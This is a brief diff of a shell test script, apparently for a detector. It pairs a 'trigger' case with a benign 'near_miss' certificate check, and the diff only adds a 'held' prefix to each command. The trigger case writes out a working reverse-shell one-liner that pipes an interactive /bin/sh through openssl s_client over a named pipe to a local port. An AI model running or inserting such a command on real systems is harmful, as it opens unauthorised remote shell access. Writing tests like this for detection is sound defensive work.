@@ -4,10 +4,10 @@ trigger() {
     local w o
     w=$(work "$1")
     o=$(fake "$1" openssl)
-    timeout 5 sh -c "mkfifo $w/s; /bin/sh -i < $w/s 2>&1 | $o s_client -quiet -connect 127.0.0.1:$LISTEN_PORT > $w/s"
+    held timeout 5 sh -c "mkfifo $w/s; /bin/sh -i < $w/s 2>&1 | $o s_client -quiet -connect 127.0.0.1:$LISTEN_PORT > $w/s"
 }
 near_miss() {
     local o
     o=$(fake "$1" openssl)
-    timeout 5 sh -c "echo | $o s_client -connect 127.0.0.1:$LISTEN_PORT 2>/dev/null | $o x509 -noout -dates"
+    held timeout 5 sh -c "echo | $o s_client -connect 127.0.0.1:$LISTEN_PORT 2>/dev/null | $o x509 -noout -dates"
 }
